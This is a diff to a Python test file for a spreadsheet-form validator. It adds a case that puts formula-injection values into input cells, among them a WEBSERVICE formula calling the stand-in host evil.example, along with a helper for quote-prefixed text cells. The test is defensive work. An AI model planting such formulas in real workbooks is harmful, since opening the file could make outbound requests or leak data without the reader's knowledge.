@@ -39,7 +39,17 @@ CASES = {
     "bad values": ({"t3.new.natural": "三", "t3.new.business": -1, "t3.new.research": 2.5, "t3.partial.legal": None,
                     "t3.new.legal": "=1+1", "t2.fees.amount": 0.12345, "meta.report_date": "2024年2月1日"}, None),
     "tampered": ({}, _tamper),
+    # a formula in cells a clerk fills (S2.input), beside a text that only starts with "=" (no formula)
+    "formulas in input cells": ({"s1.proactive": '=WEBSERVICE("http://evil.example/")', "meta.agency": "=1+1",
+                                 "s1.overview": "=HYPERLINK(\"x\")"}, lambda wb: _text_cell(wb, "正文", "C5", "=1+2")),
 }
+
+
+def _text_cell(wb: Any, sheet: str, a1: str, text: str) -> None:
+    """A text starting with "=" typed as text (Excel's quote prefix): a string cell, no formula."""
+    cell = wb[sheet][a1]
+    cell.value = text
+    cell.data_type = "s"
 
 
 @pytest.mark.parametrize("case", list(CASES))
